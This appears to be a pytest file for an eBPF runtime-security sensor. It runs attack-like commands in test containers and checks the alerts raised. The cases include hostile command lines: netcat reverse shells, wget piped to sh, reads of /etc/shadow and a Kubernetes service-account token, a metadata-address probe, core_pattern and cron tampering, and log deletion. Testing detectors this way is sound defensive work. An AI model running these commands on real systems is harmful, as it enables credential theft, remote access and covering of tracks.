"""Each attack is really done in a container; the alert names the container, the process tree and the file."""

from __future__ import annotations

import pytest

pytestmark = [pytest.mark.real("ebpf"), pytest.mark.real("podman"), pytest.mark.bpf]

TOKEN = "/run/secrets/kubernetes.io/serviceaccount/token"
FAR_END = "ip link set lo up; ip addr add 203.0.113.7/32 dev lo; (sleep 1; echo id) | nc -l -p 4444 & sleep 0.3;"
METADATA = "ip link set lo up; ip addr add 169.254.169.254/32 dev lo; nc -w 1 169.254.169.254 80"


@pytest.mark.parametrize(
    ("analytic", "line", "named", "options"),
    [
        pytest.param("RT-0101", "cp /bin/busybox /tmp/true; /tmp/true", "/tmp/true", (), id="drifted program"),
        pytest.param("RT-0105", "echo id > /tmp/a.sh; sh /tmp/a.sh", "/tmp/a.sh", (), id="drifted script"),
        pytest.param("RT-0105", "printf '#!/bin/sh\\nid\\n' > /x; chmod +x /x; /x", "/x", (), id="drifted script of its own"),
        pytest.param("RT-0105", "echo id > /x; sh < /x", "standard input", (), id="drifted script from standard input"),
        pytest.param("RT-0105", "echo id > /x; . /x", "/x", (), id="drifted script sourced"),
        pytest.param("RT-0105", "echo id > /x; ln -s /x /y; cd /tmp; sh ../y", "/x", (), id="drifted script by links"),
        pytest.param("RT-0111", "printf '#!/bin/sh\\n# SEAWALL-MALWARE-TEST-FILE-%s\\n' 9f2c7e11 > /x; chmod +x /x; /x", "/x is Seawall_Test_Marker", (), id="malware script of a container that ends at once"),
        pytest.param("RT-0111", "(cat /bin/busybox; printf 'SEAWALL-MALWARE-TEST-FILE-%s' 9f2c7e11) > /x; chmod +x /x; /x true", "/x is Seawall_Test_Marker", (), id="malware program of a container that ends at once"),
        pytest.param("RT-0205", "modprobe msr allow_writes=on", "msr", (), id="applet of the shell"),
        pytest.param("RT-0805", "truncate -s 0 /var/log/auth.log", "/var/log/auth.log", (), id="log emptied by descriptor"),
        pytest.param("RT-0914", "mkdir /m; mount /dev/vda /m", "/dev/vda", ("--privileged",), id="disk mounted"),
        pytest.param("RT-0605", "mkdir -p /host/etc /host/bin; cp /bin/busybox /host/bin/cat; cp -a /lib /lib64 /host/ 2>/dev/null; echo x > /host/etc/shadow; chroot /host /bin/cat /etc/shadow", "/host/etc/shadow", (), id="from a chosen root"),
        pytest.param("RT-0202", "cp /bin/busybox /tmp/xmrig; /tmp/xmrig true", "xmrig", (), id="miner"),
        pytest.param("RT-0201", "true -o stratum+tcp://pool.invalid:3333 -u w", "stratum", (), id="miner's command line"),
        pytest.param("RT-0501", "ip link set lo up; nc -l -p 4444 & sleep 0.2; nc 127.0.0.1 4444 -e /bin/sh", "127.0.0.1", (), id="reverse shell"),
        pytest.param("RT-0501", f"{FAR_END} calls shell 203.0.113.7 4444 012", "input and output (203.0.113.7:4444)", ("--cap-add", "NET_ADMIN"), id="reverse shell by descriptors"),
        pytest.param("RT-0501", f"{FAR_END} calls shell 203.0.113.7 4444 0", "input (203.0.113.7:4444)", ("--cap-add", "NET_ADMIN"), id="reverse shell that only reads"),
        pytest.param("RT-0601", f"cat {TOKEN}", TOKEN, (), id="service-account token"),
        pytest.param("RT-0605", "cat /etc/shadow", "/etc/shadow", (), id="password hashes"),
        pytest.param("RT-0906", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern", "core_pattern", (), id="core_pattern"),
        pytest.param("RT-0608", METADATA, "169.254.169.254", ("--cap-add", "NET_ADMIN"), id="metadata address"),
        pytest.param("RT-0901", "unshare -U -m true", "mnt, user", (), id="unshare"),
        pytest.param("RT-0902", "nsenter -t 1 -u true", "uts", ("--cap-add", "SYS_ADMIN"), id="setns"),
        pytest.param("RT-0910", "sleep 1 & sleep 0.3; attach $!", "/bin/busybox", ("--cap-add", "SYS_PTRACE"), id="ptrace"),
        pytest.param("RT-0918", "calls handle /etc/hostname; sleep 1", "/etc/hostname", ("--cap-add", "DAC_READ_SEARCH"), id="file by its handle"),
        pytest.param("RT-0919", "calls kexec; sleep 1", "kexec_load", ("--privileged",), id="another kernel"),
        pytest.param("RT-0920", "calls faults; sleep 1", "page faults", ("--security-opt", "seccomp=unconfined"), id="page faults"),
        pytest.param("RT-0921", "sleep 5 & sleep 1; calls take $!; sleep 1", "descriptor 1 of /bin/busybox", ("--cap-add", "SYS_PTRACE"), id="descriptor of another process"),
        pytest.param("RT-0605", "mkdir -p /srv; cat /srv/x/shadow", "/srv/x/shadow", ("-v", "/etc:/srv/x:ro"), id="the node's password hashes at an odd place"),
        pytest.param("RT-0816", "ln /etc/shadow /etc/notes; cat /etc/notes", "/etc/notes", (), id="another name for password hashes"),
        pytest.param("RT-0705", "echo '* * * * * root id' > /etc/cron.d/x", "/etc/cron.d/x", (), id="scheduled job"),
        pytest.param("RT-0403", "wget -q -O - http://127.0.0.1/x | sh", "http://127.0.0.1/x", (), id="download and run"),
        pytest.param("RT-0805", "rm /var/log/auth.log", "/var/log/auth.log", (), id="log removed"),
    ],
)  # fmt: skip
def test_alert(sensor, in_container, analytic, line, named, options):
    name = in_container(line, *options)
    alert = sensor.wait_for(
        lambda each: (
            each["kind"] == "alert"
            and each["analytic"] == analytic
            and (each["container"] or {}).get("name") == name
            and named in each["message"]
        ),
        40,
    )
    assert alert["container"]["image"].startswith("localhost/seawall-test-busybox")
    assert alert["process"]["exe"]
    assert alert["process"]["args"]
    assert alert["process"]["ancestors"]
    assert alert["evidence"]
